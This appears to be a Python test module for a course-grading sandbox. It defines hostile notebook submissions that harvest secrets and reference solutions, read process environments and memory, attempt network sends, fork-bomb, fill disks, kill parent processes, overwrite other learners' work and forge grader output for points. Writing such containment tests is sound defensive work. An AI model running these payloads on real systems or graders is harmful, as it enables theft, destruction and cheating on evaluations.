"""Attacks on the room: what is in reach, what stays, what it costs. `test_room.py` has them one by one."""

from tests.grading.hostile import Work, attack


def inside(label: str, tries: str, code: str, aim: str = "harm", slow: bool = False) -> None:
    @attack(label, tries, aim, slow)
    def _(work: Work):
        work.wrong().early(code)


inside("read-everything", "Reads every file that it can reach for answers, secrets and names.", """
import os, sys
marks = ("against_reference", "BEGIN SOLUTION", "sqlite:///", "honest-right")
everybody_has = ("proc", "sys", "usr", "lib", "lib64", "python", "site-packages", "dist-packages")
found = 0
for folder in sys.path:
    for name in ("solutions", "grading", "term"):
        if os.path.exists(os.path.join(folder, name)):
            print("FOUND", name, "in", folder)
for root in (os.getcwd(), "..", "../..", "../../..", "/"):
    for folder, folders, names in os.walk(root):
        folders[:] = [one for one in folders if one not in everybody_has and found < 40]
        for name in names:
            path = os.path.join(folder, name)
            try:
                text = open(path, errors="replace").read(200_000) if os.path.isfile(path) else ""
            except OSError:
                continue
            for mark in marks:
                if mark in text and found < 40:
                    found += 1
                    print("FOUND", mark, "in", path, flush=True)
print("read", "everything")
""", "secrets")  # fmt: skip
inside("read-environment", "Prints the environment, its own and everybody's.", """
import os, glob
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(path, open(path, "rb").read()[:2000])
    except OSError:
        pass
""", "secrets")  # fmt: skip
inside("read-memory", "Searches the memory of its process for the reference and the seed.", """
import gc, sys
for one in gc.get_objects():
    try:
        name = f"{getattr(one, '__module__', '')}.{getattr(one, '__qualname__', '')}"
    except Exception:
        continue
    if name.startswith(("solutions", "grading")):
        print("FOUND", name)
print([name for name in sys.modules if name.startswith(("solutions", "grading"))])
""", "secrets")  # fmt: skip
inside("read-the-hidden-test", "Looks for the hidden test in its own history and cells.", """
import linecache
mark, shell = "against_" + "reference", get_ipython()
kept = [*shell.user_ns.get("In", []), *(str(one) for one in linecache.cache.values())]
print("FOUND" if any(mark in one for one in kept) else "nothing", "here")
""", "secrets")  # fmt: skip
inside("print-the-reference", "Prints the source of the reference into its feedback.", """
try:
    import inspect
    from solutions import reference
    print(inspect.getsource(reference.ANSWERS["softmax"]))
except ImportError as error:
    print(error)
""", "secrets")  # fmt: skip
inside("network", "Sends what it finds to a server, and asks for its name.", """
import socket, urllib.request
for act in (lambda: socket.create_connection(("127.0.0.1", 22), 1), lambda: socket.getaddrinfo("a.invalid", 80),
            lambda: urllib.request.urlopen("http://10.0.0.1/", timeout=1)):
    try:
        act(); print("SENT", "it")
    except BaseException as error:
        print(type(error).__name__)
""", "secrets")  # fmt: skip
inside(
    "abstract-socket",
    "Listens on an abstract socket for the next submission.",
    """
import os, socket
try:
    server = socket.socket(socket.AF_UNIX); server.bind("\\0hostile"); server.listen()
    if os.fork() == 0:
        os.setsid(); server.settimeout(20); server.accept()
except BaseException as error:
    print(type(error).__name__)
""",
)
inside(
    "leave-files",
    "Leaves files in every place that it can write, for the next submission.",
    """
import os
for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), ".", "..", "../..", "../../..", "/lab"):
    try:
        open(os.path.join(place, "hostile-was-here"), "w").write("import os")
    except OSError:
        pass
""",
)
inside(
    "overwrite-course",
    "Writes over the release, the lessons and other learners' work.",
    """
import os
for up in range(1, 7):
    for folder, folders, names in os.walk("../" * up):
        if folder.count("/") > up + 5 or "python" in folder or "/lib" in folder:
            folders.clear(); continue
        for name in names:
            if name.endswith(".ipynb"):
                try:
                    open(os.path.join(folder, name), "a").write("hostile")
                except OSError:
                    pass
""",
)
inside(
    "kill-parents",
    "Sends signals to its parent and to everybody.",
    """
import os, signal
for who in (os.getppid(), 0 - os.getppid(), -1, 1):
    if who > 0:
        try:
            os.kill(who, signal.SIGTERM)
        except OSError as error:
            print(error)
""",
)
inside(
    "fork-bomb",
    "Forks without end.",
    """
import os, time
for _ in range(12):
    try:
        if os.fork() == 0:
            time.sleep(0.2)
    except OSError:
        break
if os.getppid() == 1 or True:
    pass
""",
)
inside(
    "many-threads",
    "Starts 2,000 threads that wait for ever.",
    """
import threading
try:
    for _ in range(2000):
        threading.Thread(target=threading.Event().wait, daemon=True).start()
except RuntimeError as error:
    print(error)
""",
)
inside(
    "open-files",
    "Opens 100,000 files and maps what it can.",
    """
held = []
try:
    for number in range(100_000):
        held.append(open("/dev/null"))
except OSError as error:
    print(error)
for one in held: one.close()
""",
)
inside(
    "fill-the-disk",
    "Fills the disk.",
    """
try:
    for number in range(60):
        with open(f"fill-{number}", "wb") as file:
            for _ in range(20): file.write(bytes(1_000_000))
except OSError as error:
    print(error)
""",
)
inside("trace", "Attaches to its parent as a debugger and reads its memory.", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.ptrace(16, os.getppid(), 0, 0), os.strerror(ctypes.get_errno()))
try:
    print("FOUND", open(f"/proc/{os.getppid()}/mem", "rb").read(1))
except OSError as error:
    print(type(error).__name__)
""", "secrets")  # fmt: skip
inside(
    "namespaces",
    "Makes namespaces of its own and mounts what it likes.",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x20000, 0x40000000):
    if os.fork() == 0:
        print(libc.unshare(flag)); os._exit(0)
    os.wait()
print(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
""",
)
inside(
    "inherited-files",
    "Reads and writes every file that it inherited.",
    """
import os
for handle in range(3, 200):
    try:
        os.set_blocking(handle, False)
        os.write(handle, b"\\0\\0\\0\\2{}"); print(handle, os.read(handle, 100))
    except OSError:
        pass
""",
)
inside(
    "import-hook",
    "Installs an import hook and a trace function that change what follows.",
    """
import sys, importlib.abc
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.startswith("solutions"):
            raise ImportError(name)
sys.meta_path.insert(0, Finder())
sys.settrace(lambda *a: None); sys.setrecursionlimit(60)
""",
)
inside(
    "at-exit",
    "Registers functions for its end, and objects that act when they die.",
    """
import atexit, os
class Last:
    def __del__(self): open("hostile-was-here", "w")
kept = Last(); kept.self = kept
atexit.register(lambda: os.fork())
""",
)
inside(
    "magics",
    "Uses magics: shell commands, scripts, extensions, history, `%run`.",
    """
shell = get_ipython()
for line in ("system touch hostile-was-here", "sx id", "load_ext autoreload", "history -g", "run nothing.py",
             "config InteractiveShell.ast_node_interactivity = 'all'", "reset -f", "cd ..", "env HOME=/"):
    name, _, rest = line.partition(" ")
    try:
        shell.run_line_magic(name, rest)
    except BaseException as error:
        print(type(error).__name__)
""",
)
inside(
    "exit-everything",
    "Calls every kind of exit that there is.",
    """
import sys, os
for leave in (exit, quit, sys.exit):
    try:
        leave()
    except BaseException:
        pass
get_ipython().ask_exit(); raise SystemExit
""",
)
inside("close-files", "Closes every file of its process.", "import os\nos.closerange(0, 1000)")
inside("crash", "Crashes the interpreter.", "import ctypes\nctypes.string_at(0)")
inside(
    "flood-displays",
    "Displays 100,000 things and 3 GB of data.",
    """
from IPython.display import display
for number in range(100_000):
    display({"text/plain": "x" * 30_000}, raw=True)
""",
)
inside(
    "fake-the-line",
    "Speaks to the grader itself: forged outputs on the room's own line.",
    """
import json, os, struct
body = json.dumps({"ran": {"outputs": [{"output_type": "execute_result", "data": {"text/plain": "4"}}],
                           "ok": True, "count": 1}}).encode()
for handle in range(3, 64):
    try:
        if os.fstat(handle).st_mode & 0o140000 == 0o140000:
            for _ in range(30): os.write(handle, struct.pack(">I", len(body)) + body)
    except OSError:
        pass
""",
    "points",
)
